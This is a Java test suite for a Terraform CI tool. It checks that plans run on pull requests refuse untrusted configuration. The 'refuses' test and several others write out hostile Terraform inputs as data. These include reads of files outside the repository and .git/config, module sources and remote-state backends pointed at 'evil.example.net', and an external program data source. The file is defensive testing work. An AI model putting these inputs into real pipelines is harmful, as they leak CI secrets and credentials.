package dev.terrane.cli.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.terrane.cli.command.SharedRepository.Copy;
import dev.terrane.cli.command.SharedRepository.Ran;

import org.eclipse.jgit.api.errors.GitAPIException;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/// What a pull request can not make its plan do.
class StrangersTest {
    private static final String SECRET = "canary-of-the-pipeline";

    @TempDir private Path folder;
    private SharedRepository shared;
    private Path outside;

    @BeforeEach
    void start() throws IOException, GitAPIException {
        shared = new SharedRepository(folder);
        outside = Files.createDirectories(folder.resolve("outside"));
        Files.writeString(outside.resolve("secret.txt"), SECRET + "\n");
        Files.writeString(outside.resolve("secret.tf"), SECRET + "\n");
        Files.writeString(
                outside.resolve("other.tfstate"),
                """
                {"version": 4, "terraform_version": "1.11.4", "serial": 1, "lineage": "a",
                 "outputs": {"x": {"value": "%s", "type": "string"}}, "resources": []}
                """
                        .formatted(SECRET));
        try (Copy copy = shared.copy("main")) {
            copy.write(".gitignore", ".terrane/\n");
            copy.write(
                    "terrane.hcl",
                    """
                    module_hosts = ["modules.example.com"]
                    project "net" {
                      var_files = ["prod.tfvars"]
                      credentials "plan" {
                        environment = { TF_VAR_who = "reader" }
                      }
                    }
                    """);
            copy.write("net/prod.tfvars", "");
            copy.write("net/inside.txt", "inside");
            copy.write("net/.terraform.lock.hcl", "# nothing\n");
            copy.write("net/state.tf", backend("var.place", "net.tfstate"));
            copy.commit("start");
            copy.push("main");
        }
    }

    private String backend(String path, String file) {
        return """
        terraform {
          backend "local" {
            path = %s
          }
        }
        variable "place" {
          default = "%s"
        }
        variable "who" {
          default = "nobody"
        }
        """
                .formatted(path, shared.states.resolve(file));
    }

    private static Copy reviewed(Copy copy) {
        return copy.with("GITHUB_EVENT_NAME", "pull_request").with("GITHUB_BASE_REF", "main");
    }

    private Ran plan(String path, String text) throws IOException, GitAPIException {
        try (Copy copy = shared.copy("one")) {
            copy.write("net/touched.tf", "# so that the project is planned\n");
            copy.write(path, text);
            copy.commit("one");
            return reviewed(copy).run("plan", "-commit", "-no-color");
        }
    }

    @Test
    void whatIsHarmlessIsPlannedWithTheCredentialsForPlans() throws IOException, GitAPIException {
        Ran planned =
                plan(
                        "net/one.tf",
                        """
                        resource "terraform_data" "one" {
                          input = [file("inside.txt"), fileexists("nothing"), var.who]
                        }
                        """);

        assertThat(planned.text()).contains("\"inside\"", "\"reader\"");
        assertThat(planned.status()).isZero();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiterString = " => ",
            quoteCharacter = '`',
            textBlock =
                    """
                    output "x" { value = file("OUTSIDE/secret.txt") } => lies outside of the repository
                    output "x" { value = file("../../outside/secret.txt") } => lies outside of the repository
                    output "x" { value = file("${path.module}/../../outside/secret.txt") } => lies outside of the repository
                    output "x" { value = filebase64("OUTSIDE/secret.txt") } => lies outside of the repository
                    output "x" { value = filesha256("OUTSIDE/secret.txt") } => lies outside of the repository
                    output "x" { value = templatefile("OUTSIDE/secret.txt", {}) } => lies outside of the repository
                    output "x" { value = fileexists("OUTSIDE/secret.txt") } => lies outside of the repository
                    output "x" { value = fileset("OUTSIDE", "*") } => outside of the repository
                    output "x" { value = file("../.git/config") } => lies outside of the repository
                    module "x" { source = "../../outside" } => File outside of the repository
                    module "x" { source = "git::https://evil.example.net/x.git" } => evil.example.net
                    module "x" { source = "acme/net/aws" } => registry.terraform.io
                    data "local_file" "x" { filename = "OUTSIDE/secret.txt" } => names a file outside of the repository
                    data "external" "x" { program = ["id"] } => Programs are not run in review
                    data "terraform_remote_state" "x" { backend = "local", config = { path = "OUTSIDE/other.tfstate" } } => lies outside of the repository
                    data "terraform_remote_state" "x" { backend = "http", config = { address = "https://evil.example.net/x" } } => shows its credentials to no others
                    data "terraform_remote_state" "x" { backend = "pg", config = { conn_str = "postgres://evil.example.net/x" } } => shows its credentials to no others
                    data "terraform_remote_state" "x" { backend = "kubernetes", config = { secret_suffix = "x", config_path = "kubeconfig" } } => shows its credentials to no others
                    data "terraform_remote_state" "x" { backend = "s3", config = { bucket = "b", key = "k", region = "r", sts_endpoint = "https://evil.example.net" } } => shows its credentials to no others
                    data "terraform_remote_state" "x" { backend = "gcs", config = { bucket = "b", storage_custom_endpoint = "https://evil.example.net" } } => shows its credentials to no others
                    """)
    void refuses(String block, String expected) throws IOException, GitAPIException {
        String text =
                block.replace("OUTSIDE", outside.toString())
                        .replaceFirst("\\{ ", "{\n")
                        .replaceFirst(", config", "\nconfig")
                        .replaceFirst(" }$", "\n}\n");

        Ran planned = plan("net/one.tf", text);

        assertThat(planned.status()).isEqualTo(Command.FAILED);
        assertThat(planned.text()).contains(expected).doesNotContain(SECRET);
    }

    @ParameterizedTest
    @CsvSource({"link.txt, secret.txt", "link.tf, secret.tf", "prod.tfvars, secret.txt"})
    void followsNoLinkOut(String link, String target) throws IOException, GitAPIException {
        try (Copy copy = shared.copy("one")) {
            copy.write("net/one.tf", "output \"x\" {\n  value = try(file(\"link.txt\"), 1)\n}\n");
            copy.write("net/two.tf", "output \"y\" {\n  value = file(\"link.txt\")\n}\n");
            Path at = copy.folder.resolve("net").resolve(link);
            Files.deleteIfExists(at);
            Files.createSymbolicLink(at, outside.resolve(target));
            copy.commit("link");

            Ran planned = reviewed(copy).run("plan", "-commit", "-no-color");

            assertThat(planned.status()).isEqualTo(Command.FAILED);
            assertThat(planned.text()).contains("outside of the repository").doesNotContain(SECRET);
        }
    }

    @ParameterizedTest
    @CsvSource({"var.place, other.tfstate", "'\"OUTSIDE/x.tfstate\"', net.tfstate"})
    void theStateIsTheOneOfTheBaseBranch(String path, String file)
            throws IOException, GitAPIException {
        Ran planned =
                plan("net/state.tf", backend(path.replace("OUTSIDE", outside.toString()), file));

        assertThat(planned.status()).isEqualTo(Command.FAILED);
        assertThat(planned.text()).contains("The state is kept elsewhere than on the base branch");
    }

    @ParameterizedTest
    @CsvSource({
        "net/.terraform.lock.hcl, Providers are not those of the base branch",
        "net/.terrane.lock.hcl, Providers are not those of the base branch",
        "net/.terraform/terraform.tfstate, What init makes was committed"
    })
    void bringsNeitherProvidersNorWhatInitMakes(String path, String expected)
            throws IOException, GitAPIException {
        Ran planned = plan(path, "{}\n");

        assertThat(planned.status()).isEqualTo(Command.FAILED);
        assertThat(planned.text()).contains(expected);
    }

    @Test
    void changesNeitherItsRulesNorItsCredentials() throws IOException, GitAPIException {
        try (Copy copy = shared.copy("one")) {
            copy.write(
                    "terrane.hcl",
                    """
                    external     = true
                    module_hosts = ["evil.example.net"]
                    base         = "one"
                    project "net" {
                      credentials "plan" {
                        environment = { TF_VAR_who = "admin" }
                      }
                    }
                    """);
            copy.write("net/a.tf", "resource \"terraform_data\" \"a\" {\n  input = var.who\n}\n");
            copy.commit("rules");
            copy.push("one");

            assertThat(reviewed(copy).run("plan", "-commit", "-no-color").text())
                    .contains("reader")
                    .doesNotContain("admin");
        }
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiterString = " => ",
            textBlock =
                    """
                    git::http://localhost:1/x.git => The module "x" comes from "localhost"
                    ../../outside => File outside of the repository
                    """)
    void initFetchesNothingThatAPlanMayNotHave(String source, String expected)
            throws IOException, GitAPIException {
        try (Copy copy = shared.copy("one")) {
            copy.write("net/m.tf", "module \"x\" {\n  source = \"%s\"\n}\n".formatted(source));
            copy.commit("module");
            Ran init = reviewed(copy).runIn("net", "init");

            assertThat(init.status()).isEqualTo(Command.FAILED);
            assertThat(init.text()).contains(expected).doesNotContain("refused", SECRET);
            assertThat(copy.runIn("net", "get").text()).contains(expected);
        }
    }

    /// Nothing but the option says that it is a pull request.
    @ParameterizedTest
    @CsvSource({
        "ci -event=pull-request, is not there",
        "ci -event=pull-request -verify, is not there"
    })
    void aPlainShellIsHeldToTheBaseBranchToo(String words, String expected)
            throws IOException, GitAPIException {
        try (Copy copy = shared.copy("one")) {
            copy.write("net/one.tf", "resource \"terraform_data\" \"one\" {}\n");
            copy.write("net/.terrane.lock.hcl", "# other programs\n");
            copy.commit("one");

            Ran ran = copy.run(words.split(" "));

            assertThat(ran.status()).as(ran.text()).isEqualTo(Command.FAILED);
            assertThat(ran.text()).contains("Providers are not those of the base branch", expected);
        }
    }

    @Test
    void aNewProjectIsSaidAndNotPlanned() throws IOException, GitAPIException {
        try (Copy copy = shared.copy("one")) {
            copy.write("terrane.hcl", "project \"net\" {}\nproject \"evil\" {}\n");
            copy.write("evil/a.tf", "resource \"terraform_data\" \"a\" {}\n");
            copy.commit("new");
            Ran planned = reviewed(copy).run("plan", "-commit");

            assertThat(planned.text())
                    .contains("A new project is not planned", "\"evil\"")
                    .doesNotContain("Project evil:");
        }
    }

    @Test
    void whatTheRulesAllowIsDone() throws IOException, GitAPIException {
        assertThat(ProposedModules.host("git::https://x")).isEmpty();
        assertThat(ProposedModules.host("https://a:b@h.example:8443/x?ref=1"))
                .contains("h.example");
        assertThat(ProposedModules.host("ssh://git@h.example/x.git")).contains("h.example");
        assertThat(ProposedModules.host("git@h.example:acme/x.git")).contains("h.example");
        assertThat(
                        plan(
                                        "net/m.tf",
                                        "module \"x\" {\n  source = \"modules.example.com/a/b/c\"\n}\n")
                                .text())
                .doesNotContain("not allowed");
    }

    private Ran planOfFork(String action, String label) throws IOException, GitAPIException {
        Path event = folder.resolve("event.json");
        Files.writeString(
                event,
                """
                {"action": "%s", "label": {"name": "%s"}, "pull_request": {
                  "labels": [{"name": "terrane-plan"}],
                  "head": {"repo": {"full_name": "eve/infra"}},
                  "base": {"repo": {"full_name": "acme/infra"}}}}
                """
                        .formatted(action, label));
        try (Copy copy = shared.copy("one")) {
            copy.write("net/a.tf", "resource \"terraform_data\" \"a\" {}\n");
            copy.commit("fork");
            return reviewed(copy)
                    .with("GITHUB_EVENT_PATH", event.toString())
                    .run("plan", "-commit");
        }
    }

    @Test
    void aForkWaitsForALabelAndAgainAfterEachPush() throws IOException, GitAPIException {
        assertThat(planOfFork("opened", "").text()).contains("The plan of a fork waits");
        assertThat(planOfFork("labeled", "question").status()).isEqualTo(Command.FAILED);
        assertThat(planOfFork("labeled", "terrane-plan").status()).isZero();
        assertThat(planOfFork("synchronize", "").status()).isEqualTo(Command.FAILED);
    }

    @Test
    void whereTheBaseBranchIsNotThereNothingIsPlanned() throws IOException, GitAPIException {
        try (Copy copy = shared.copy("one")) {
            Ran planned =
                    copy.with("GITHUB_EVENT_NAME", "pull_request")
                            .with("GITHUB_BASE_REF", "gone")
                            .run("plan", "-commit");

            assertThat(planned.status()).isEqualTo(Command.FAILED);
            assertThat(planned.text()).contains("The base branch is not known");
        }
    }
}
